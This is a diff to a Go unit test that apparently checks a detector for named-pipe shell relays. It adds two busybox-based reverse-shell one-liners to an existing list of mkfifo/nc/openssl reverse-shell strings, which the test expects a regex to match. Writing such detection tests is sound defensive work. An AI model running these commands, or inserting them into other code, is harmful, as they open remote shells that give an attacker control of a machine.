@@ -21,6 +21,8 @@ func TestNamedPipeShellRelayPattern(t *testing.T) {
 		"sh -c mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 127.0.0.1 14445 > /tmp/f",
 		"rm /tmp/p; mknod /tmp/p p && nc 10.0.0.1 80 0</tmp/p | /bin/bash 1>/tmp/p",
 		"mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect h:443 > /tmp/s",
+		"mkfifo /tmp/b; cat /tmp/b | busybox sh -i 2>&1 | busybox nc 10.0.0.1 4444 > /tmp/b",
+		"mkfifo /tmp/c; busybox nc 10.0.0.1 80 < /tmp/c | /bin/busybox sh > /tmp/c",
 	} {
 		if !p.re.MatchString(l) {
 			t.Errorf("no match: %q", l)
